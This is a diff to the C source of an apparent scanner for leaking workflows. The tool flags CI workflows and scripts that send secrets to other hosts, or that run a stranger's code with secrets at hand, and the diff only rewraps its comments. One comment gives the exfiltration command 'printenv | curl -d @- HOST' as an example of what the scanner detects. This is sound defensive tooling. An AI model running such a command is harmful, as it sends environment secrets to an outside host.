@@ -1,10 +1,12 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /*
- * Secrets on their way out of a workflow or a script, and workflows that run strangers' code with secrets at hand. Distrusts every byte.
+ * Secrets on their way out of a workflow or a script, and workflows that run strangers' code with
+ * secrets at hand. Distrusts every byte.
  *
- * A token in a header goes to the service that gave it out: that isn't marked. Nor is a secret that is the address itself (a chat's web
- * hook), nor one in what is sent to a well-known service of which it is the key. What is left, a secret in the data, the query or the name
- * of a request to some other host, honest workflows all but never write.
+ * A token in a header goes to the service that gave it out: that isn't marked. Nor is a secret that
+ * is the address itself (a chat's web hook), nor one in what is sent to a well-known service of
+ * which it is the key. What is left, a secret in the data, the query or the name of a request to
+ * some other host, honest workflows all but never write.
  */
 #include <string.h>
 
@@ -184,8 +186,9 @@ read_socket (Scan *scan, const Command *command, const char *at, const char *end
 #define QUOTED_DEPTH_MAX 3
 
 /*
- * The commands of a line, one after another, remembering whether what one writes goes into the next: printenv | curl -d @- HOST.
- * Also those that print a secret in disguise, so that no log masks it.
+ * The commands of a line, one after another, remembering whether what one writes goes into the
+ * next: printenv | curl -d @- HOST. Also those that print a secret in disguise, so that no log
+ * masks it.
  */
 static void
 read_commands (Scan *scan, const Command *command, guint depth)
@@ -442,7 +445,10 @@ recognise_sending (HmMarks *marks, const HmText *file)
   }
 }
 
-/* What a workflow on a stranger's behalf must not do: check out the stranger's code, or paste the stranger's words into a script. */
+/*
+ * What a workflow on a stranger's behalf must not do: check out the stranger's code, or paste the
+ * stranger's words into a script.
+ */
 static void
 recognise_trigger (HmMarks *marks, const HmText *file)
 {
